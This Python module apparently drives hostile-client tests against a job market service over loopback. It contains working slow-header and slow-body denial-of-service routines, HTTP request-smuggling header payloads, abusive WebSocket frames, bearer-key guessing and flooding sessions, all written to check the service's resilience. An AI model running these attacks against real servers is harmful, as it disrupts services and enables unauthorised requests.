"""What hostile clients do to a market, each for some seconds, from an address of its own.

An attack is a function of a Target and a time to end at; it does what it can and notes nothing: what
counts is what the market's other clients see meanwhile.
"""
from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import socket
import struct
import time
import urllib.parse
from typing import Any, Callable

import ed25519
import wire

ADDRESS = "127.0.0.2"  # not that of honest clients
GONE = (ConnectionError, OSError, AssertionError)


@dataclasses.dataclass
class Target:
    url: str
    keys: dict[str, str]

    def connect(self, address: str = ADDRESS) -> socket.socket:
        place = urllib.parse.urlsplit(self.url)
        assert place.hostname and place.port
        return socket.create_connection((place.hostname, place.port), timeout=wire.TIMEOUT_S,
                                        source_address=(address, 0))

    def head(self, method: str, target: str, **headers: str) -> bytes:
        return wire.head(method, target, self.url,
                         {name.replace("_", "-"): value for name, value in headers.items()})

    def ask(self, method: str, target: str, key: str = "", body: bytes = b"",
            **headers: str) -> wire.Answer:
        """One request from the attacker's address."""
        sent = {"Connection": "close", "Content-Length": str(len(body)),
                "Content-Type": "application/json", **headers}
        if key:
            sent["Authorization"] = f"Bearer {key}"
        with self.connect() as connection, connection.makefile("rb") as stream:
            connection.sendall(self.head(method, target, **sent) + body)
            status, answered = wire.read_head(stream)
            size = int(answered.get("content-length", "0"))
            return wire.Answer(status, answered, stream.read(size))


def open_many(target: Target, count: int, first: bytes) -> list[socket.socket]:
    """Connections that have said this much, as many as the market takes."""
    held: list[socket.socket] = []
    for _ in range(count):
        try:
            one = target.connect()
            one.sendall(first)
            held.append(one)
        except GONE:
            break
    return held


def trickle(held: list[socket.socket], byte: bytes, end: float) -> None:
    """Says one more byte on each, again and again."""
    while time.monotonic() < end:
        for one in held:
            try:
                one.sendall(byte)
            except GONE:
                pass
        time.sleep(0.5)
    for one in held:
        one.close()


def slow_heads(target: Target, end: float, count: int = 900) -> None:
    trickle(open_many(target, count, b"GET /v1/market HTTP/1.1\r\nX: "), b"x", end)


def slow_bodies(target: Target, end: float, count: int = 900) -> None:
    head = target.head("POST", "/v1/jobs", Content_Length="1000000")
    trickle(open_many(target, count, head), b" ", end)


def connections(target: Target, end: float) -> None:
    """Opens and closes as fast as it can, and says nothing."""
    while time.monotonic() < end:
        for one in open_many(target, 200, b""):
            one.close()


SMUGGLED = "POST /v1/accounts HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n"


def smuggling_heads() -> list[str]:
    return ["Content-Length: 4\r\nTransfer-Encoding: chunked", "Transfer-Encoding: gzip",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
            "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked",
            "Content-Length: 4\r\nContent-Length: 0", "Content-Length: 0,4", "Content-Length: +4",
            "Content-Length: 0x4",
            "Transfer-Encoding: chunked\r\nContent-Length: 4"]


def smuggle(target: Target, head: str, key: str = "") -> bytes:
    """All that is answered to a request with another one hidden in its body."""
    host = urllib.parse.urlsplit(target.url).netloc
    authorised = f"Authorization: Bearer {key}\r\n" if key else ""
    hidden = SMUGGLED.format(host=host).replace("\r\n\r\n", f"\r\n{authorised}\r\n")
    text = f"POST /v1/quotes HTTP/1.1\r\nHost: {host}\r\n{authorised}{head}\r\n\r\n0\r\n\r\n{hidden}"
    answered = b""
    with target.connect() as connection:
        connection.sendall(text.encode())
        connection.settimeout(5)
        try:
            while piece := connection.recv(4096):
                answered += piece
        except GONE:
            pass
    return answered


def smuggling(target: Target, end: float) -> None:
    while time.monotonic() < end:
        for head in smuggling_heads():
            smuggle(target, head, target.keys["buyer"])


def frame(opcode: int, payload: bytes, final: bool = True, size: int | None = None) -> bytes:
    """A masked frame; `size` is what it says of itself. Lengths have their shortest form, as they must."""
    size = len(payload) if size is None else size
    first = (0x80 if final else 0) | opcode
    if size < 126:
        head = struct.pack("!BB", first, 0x80 | size)
    elif size < 1 << 16:
        head = struct.pack("!BBH", first, 0x80 | 126, size)
    else:
        head = struct.pack("!BBQ", first, 0x80 | 127, size)
    return head + bytes(4) + payload


def websocket(target: Target, path: str, key: str) -> socket.socket:
    connection = target.connect()
    connection.sendall(target.head("GET", path, Connection="Upgrade", Upgrade="websocket",
                                   Sec_WebSocket_Version="13", Authorization=f"Bearer {key}",
                                   Sec_WebSocket_Key="AAAAAAAAAAAAAAAAAAAAAA=="))
    return connection


def frames(target: Target, end: float) -> None:
    """Frames that promise too much, messages in very many pieces, and pings."""
    while time.monotonic() < end:
        for path, key in (("/v1/session", "provider"), ("/v1/events", "buyer")):
            for said in (frame(1, b"x", size=1 << 62), frame(1, b"x" * (1 << 20)) * 3,
                         frame(1, b"x", final=False) + frame(0, b"", final=False) * 20_000,
                         frame(1, b"[" * 200_000), frame(9, b"ping") * 5_000,
                         frame(2, b"\0" * 100_000)):
                try:
                    with websocket(target, path, target.keys[key]) as connection:
                        connection.sendall(said)
                except GONE:
                    pass


def guesses(target: Target, end: float) -> None:
    """Wrong keys on connections that stay."""
    held = open_many(target, 100, b"")
    while time.monotonic() < end:
        for one in held:
            key = "shoal_" + os.urandom(32).hex()
            try:
                one.sendall(target.head("GET", "/v1/accounts/me", Authorization=f"Bearer {key}"))
            except GONE:
                pass
        time.sleep(0.05)
    for one in held:
        one.close()


def repeated_keys(target: Target, end: float) -> None:
    """Each request under another Idempotency-Key of the greatest length."""
    number = 0
    while time.monotonic() < end:
        number += 1
        try:
            target.ask("POST", f"/v1/accounts/{target.keys['buyer_account']}/keys",
                       target.keys["buyer"], b'{"role":"buyer"}',
                       **{"Idempotency-Key": f"{number:0200d}"})
        except GONE:
            pass


def cursors(target: Target, end: float) -> None:
    while time.monotonic() < end:
        for cursor in ("", "0", "-1", "9" * 40, "AAAA", os.urandom(30).hex(), "%00", "../.."):
            try:
                target.ask("GET", f"/v1/jobs?cursor={urllib.parse.quote(cursor)}&limit=500",
                           target.keys["buyer"])
            except GONE:
                pass


class Flood:
    """A session that proves its key and then talks without an end."""

    def __init__(self, target: Target) -> None:
        self.socket = wire.WebSocket(target.url, "/v1/session", target.keys["provider"])

    def close(self) -> None:
        self.socket.close()

    def prove(self) -> None:
        seed = os.urandom(32)
        key = ed25519.public_key(seed)
        self._say({"hello": {"protocol_min": 1, "protocol_max": 1, "release": "flood",
                             "key": key.hex()}})
        asked = json.loads(self.socket.receive())["challenge"]
        signed = b"".join([sized(b"shoal.session"), b"\x01", sized(asked["market"].encode()),
                           sized(asked["nonce"].encode()), sized(key)])
        self._say({"proof": {"signature": ed25519.sign(seed, signed).hex(), "offer": {
            "name": "flood", "capacity": {"cores": 1, "memory": "1GiB", "disk": "1GiB"},
            "attempts_max": 1, "tier": "b", "price": {"hour": "1"}}}})
        self.socket.receive()

    def _say(self, message: Any) -> None:
        self.socket.send(json.dumps({"sequence": 0, "message": message}))

    def run(self, end: float) -> None:
        """Small frames that want an answer, and great ones, as fast as they are taken."""
        small = json.dumps({"sequence": 0, "message": {"started": {"lease": "lease_zzz"}}}).encode()
        great = json.dumps({"sequence": 0, "message": {"said": {
            "lease": "lease_zzz", "log_offset": 0, "log": "x" * 900_000}}}).encode()
        said = frame(1, small) * 500 + frame(1, great)
        raw = self.socket._socket  # pylint: disable=protected-access
        raw.settimeout(0.2)
        view = memoryview(said)
        at = 0
        while time.monotonic() < end:
            try:
                at = (at + raw.send(view[at:])) % len(said)
            except TimeoutError:
                continue  # the market reads when it wants to
            except GONE:
                return


def sized(data: bytes) -> bytes:
    return len(data).to_bytes(8, "little") + data


def flood(target: Target, end: float) -> None:
    while time.monotonic() < end:
        try:
            with contextlib.closing(Flood(target)) as flooding:
                flooding.prove()
                flooding.run(end)
        except GONE:
            time.sleep(0.2)


def silent_sessions(target: Target, end: float) -> None:
    """Sessions that never prove anything."""
    held = []
    while time.monotonic() < end:
        try:
            held.append(websocket(target, "/v1/session", target.keys["provider"]))
        except GONE:
            time.sleep(0.05)
    for one in held:
        one.close()


def many_tasks(target: Target, end: float, jobs: int = 101) -> None:
    """Jobs of ten thousand tasks each, up to a million and one more."""
    values = ",".join(str(number) for number in range(10_000))
    for number in range(jobs):
        body = (f'{{"name":"many {number}","command":["true","${{n}}"],'
                f'"tasks":{{"matrix":{{"n":[{values}]}}}},"price":{{"max_total":"1000000"}},'
                '"resources":{"cores":4000}}').encode()
        try:
            target.ask("POST", "/v1/jobs", target.keys["buyer"], body)
        except GONE:
            pass
        if time.monotonic() > end + 300:
            return


ATTACKS: dict[str, Callable[[Target, float], None]] = {
    "slow heads": slow_heads, "slow bodies": slow_bodies, "connections": connections,
    "smuggling": smuggling, "frames": frames, "guessed keys": guesses,
    "idempotency keys": repeated_keys, "cursors": cursors, "flooding provider": flood,
    "silent sessions": silent_sessions, "a million tasks": many_tasks,
}


